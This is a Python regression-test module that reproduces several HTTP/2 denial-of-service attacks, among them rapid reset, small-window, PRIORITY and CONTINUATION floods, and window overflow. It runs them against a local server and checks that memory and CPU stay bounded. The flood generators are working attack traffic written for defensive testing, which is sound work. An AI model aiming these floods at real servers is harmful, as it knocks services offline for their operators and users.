"""Vulnerabilities of HTTP/2: floods, windows, heads."""
import random
import threading
import time

import wire
from row import Row
from target import need
from wire import CONTINUATION, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, H2, frame, setting

SERVER = "server { listen 127.0.0.1:<port> http2; <alive>\n%s } server { listen 127.0.0.1:<port2>; <alive> }"
FILES = "root <dir>/files;"
# A flood may not cost more memory than this.
GROWTH_KB = 24 * 1024
WINDOW_MOST = (1 << 31) - 1


def page(target):
    target.write("files/page", "hello")
    target.write("files/large", b"0123456789abcdef" * 65536)


def grown(target, before, told, limit=GROWTH_KB):
    after = target.memory_kb()
    need(after - before < limit, f"{told} cost {(after - before) // 1024} MiB")


def unread_frames(target):
    """PING and SETTINGS from a client that reads nothing: the server may not keep an answer to each."""
    before = target.memory_kb()
    for kind, one in (("PING", frame(PING, 0, 0, b"ledger!!")), ("SETTINGS", frame(SETTINGS, 0, 0))):
        with H2(target.port, receive=4096, patience=2) as client:
            many = one * 4000
            for _ in range(250):
                if not client.send(many):
                    break
            time.sleep(0.3)
            grown(target, before, f"a flood of {kind}")


def idle_and_active(target):
    """PING by PING, so that the connection becomes active and idle again each time."""
    used = target.cpu_s()
    with H2(target.port) as client:
        count = 0
        while count < 12000 and client.send(frame(PING, 0, 0, b"ledger!!")):
            client.socket.settimeout(2)
            try:
                if not client.socket.recv(4096):
                    break
            except OSError:
                break
            count += 1
    used = target.cpu_s() - used
    need(count < 12000 or target.is_weir, "more than 10,000 changes between idle and active on one connection")
    need(used < 10, f"{count} frames cost {used:.1f} s of CPU")


def small_windows(target):
    """The client takes one byte at a time of many streams, and reads nothing."""
    before, used = target.memory_kb(), target.cpu_s()
    with H2(target.port, setting(4, 0), receive=4096, patience=2) as client:
        streams = range(1, 200, 2)
        client.send(frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big")))
        client.send(b"".join(wire.ask(stream, "/large") for stream in streams))
        one = b"".join(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\x01") for stream in streams)
        for _ in range(600):
            if not client.send(one * 20):
                break
        time.sleep(0.3)
        grown(target, before, "data in frames of one byte")
    used = target.cpu_s() - used
    need(used < 10, f"data in frames of one byte cost {used:.1f} s of CPU")


def shuffled_priorities(target):
    """PRIORITY frames without end: the server must end the connection, or the cost of a frame must not grow with the tree."""
    used = target.cpu_s()
    with H2(target.port, setting(4, 0)) as client:
        streams = list(range(1, 200, 2))
        client.send(b"".join(wire.ask(stream, "/large") for stream in streams))
        chain = b"".join(frame(PRIORITY, 0, stream, stream.to_bytes(4, "big")[:0] + (0x80000000 | before).to_bytes(4, "big") + b"\x10")
                         for before, stream in zip([0, *streams], streams))
        sent = 0
        while sent < 200_000 and client.send(chain * 4):
            sent += 4 * len(streams)
        is_open = client.ping(10)
    need(not is_open, f"the server took {sent} PRIORITY frames on one connection")
    used = target.cpu_s() - used
    need(used < 5, f"{sent} PRIORITY frames cost {used:.1f} s of CPU")


def empty_fields(target):
    """Fields whose name and value are empty, without end."""
    before = target.memory_kb()
    with H2(target.port, patience=5) as client:
        block = b"\x82\x86\x84\x01\x09localhost"
        client.send(frame(HEADERS, 1, 1, block))
        many = frame(CONTINUATION, 0, 1, b"\x40\0\0" * 5000) * 2
        # 21 MB of fields that cost two bytes each.
        for _ in range(700):
            if not client.send(many):
                break
        time.sleep(0.3)
        grown(target, before, "empty fields", GROWTH_KB // 3)


def rapid_reset(target):
    """Streams that the client opens and resets at once: the server must end the connection."""
    before, used = target.memory_kb(), target.cpu_s()
    streams = 10_000
    with H2(target.port, patience=10) as client:
        for start in range(0, streams, 500):
            pairs = (wire.ask(stream, "/page") + frame(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in range(2 * start + 1, 2 * start + 1001, 2))
            if not client.send(b"".join(pairs)):
                break
        is_open = client.ping(10)
        ended = any(one[0] == GOAWAY for one in wire.frames(client.got))
    need(not is_open or ended, f"the server took {streams} streams that were reset at once")
    grown(target, before, "streams that are reset")
    used = target.cpu_s() - used
    need(used < 10, f"streams that are reset cost {used:.1f} s of CPU")


def slow_origin(connection, _):
    wire.head(connection)
    time.sleep(0.3)
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")


def wild_windows(target):
    """Windows at their limits, in an order that is random but the same in each run."""
    rng = random.Random(123007)
    values = [0, 1, 2, 65535, 65536, (1 << 30), WINDOW_MOST - 1, WINDOW_MOST]
    for _ in range(60):
        with H2(target.port, setting(4, rng.choice(values)), patience=2) as client:
            for stream in range(1, 9, 2):
                client.send(wire.ask(stream, rng.choice(["/page", "/large", "/slow"])))
            for _ in range(rng.randint(1, 30)):
                step = rng.randint(0, 3)
                value = rng.choice(values)
                if step == 0:
                    client.send(frame(SETTINGS, 0, 0, setting(4, value)))
                elif step == 1:
                    client.send(frame(WINDOW_UPDATE, 0, rng.choice([0, 1, 3, 5, 7]), max(1, value).to_bytes(4, "big")))
                elif step == 2:
                    whole = frame(SETTINGS, 0, 0, setting(4, value) + setting(4, rng.choice(values)) + setting(3, 100))
                    client.send(whole[:13])
                    client.send(whole[13:])
                else:
                    client.send(frame(RST_STREAM, 0, rng.choice([1, 3, 5, 7]), b"\0\0\0\x08"))
    for name, sent in (("of the connection", frame(WINDOW_UPDATE, 0, 0, WINDOW_MOST.to_bytes(4, "big")) * 2),
                       ("of a stream", wire.ask(1, "/slow") + frame(WINDOW_UPDATE, 0, 1, WINDOW_MOST.to_bytes(4, "big"))),
                       ("of all streams", frame(SETTINGS, 0, 0, setting(4, WINDOW_MOST + 1)))):
        with H2(target.port, patience=3) as client:
            client.send(sent)
            found = client.until(lambda one: one[0] in (GOAWAY, RST_STREAM), 3)
            code = found and int.from_bytes(found[3][-8:-4] if found[0] == GOAWAY and len(found[3]) == 8 else (found[3][4:8] if found[0] == GOAWAY else found[3]), "big")
            if found and found[0] == GOAWAY:
                code = int.from_bytes(found[3][4:8], "big")
            need(code == 3, f"a window {name} above 2^31-1: {found and found[0]}, code {code}")


def full_table(target):
    """More connections and streams than the server has room for, and then their end at the same time."""

    def one():
        try:
            with H2(target.port, patience=3) as client:
                client.send(b"".join(wire.ask(stream, "/slow") for stream in range(1, 40, 2)))
                client.until(lambda found: found[0] == HEADERS, 2)
        except OSError:
            pass

    clients = [threading.Thread(target=one) for _ in range(30)]
    for client in clients:
        client.start()
    for client in clients:
        client.join()


HEAD_WHY = "a head has a bound on its bytes and its fields"
ROWS = [
    Row("2018-16843", "HTTP/2: memory by frames whose answers nobody reads", "1.9.5-1.15.5", "weir ends the connection with ENHANCE_YOUR_CALM", unread_frames,
        release="1.15.5", asan=False, prepare=page, http=SERVER % FILES),
    Row("2018-16844", "HTTP/2: CPU by changes between idle and active", "1.9.5-1.15.5", "frames without a request have a bound: ENHANCE_YOUR_CALM",
        idle_and_active, release="1.15.5", asan=False, prepare=page, http=SERVER % FILES),
    Row("2019-9511", "HTTP/2: CPU and memory by windows of one byte", "1.9.5-1.17.2", "weir ends the connection of a client that asks and does not read: ENHANCE_YOUR_CALM", small_windows,
        release="1.17.2", asan=False, prepare=page, http=(SERVER % FILES).replace("http2;", "http2 sndbuf=16k;")),
    Row("2019-9513", "HTTP/2: CPU by changes of priority", "1.9.5-1.17.2", "frames without a request have a bound: ENHANCE_YOUR_CALM", shuffled_priorities,
        release="1.17.2", asan=False, prepare=page, http=SERVER % FILES),
    Row("2019-9516", "HTTP/2: memory by empty fields", "1.9.5-1.17.2", HEAD_WHY, empty_fields, release="1.17.2", asan=False, prepare=page, http=SERVER % FILES),
    Row("2023-44487", "HTTP/2: rapid reset", "1.9.5-1.25.2", "resets have a bound: ENHANCE_YOUR_CALM", rapid_reset, release="1.25.2", asan=False, prepare=page,
        http="keepalive_requests 1000000;" + SERVER % FILES),
    Row("2026-123007", "HTTP/2: a window of flow control overflows", "1.9.5-1.31.8", "windows have 64 bits, and one above 2^31-1 is FLOW_CONTROL_ERROR", wild_windows, near=True,
        prepare=page, origin=slow_origin, http=SERVER % (FILES + " location = /slow { proxy_pass http://127.0.0.1:<origin>; }")),
    Row("2026-123633", "HTTP/2: use of freed memory when connections run out", "1.19.7-1.31.8", "a full table refuses the connection", full_table, near=True,
        connections=24, alerts="worker_connections are not enough", origin=slow_origin, prepare=page, http=SERVER % (FILES + " location = /slow { proxy_pass http://127.0.0.1:<origin>; }")),
]
for one in ROWS:
    one.alive2 = True
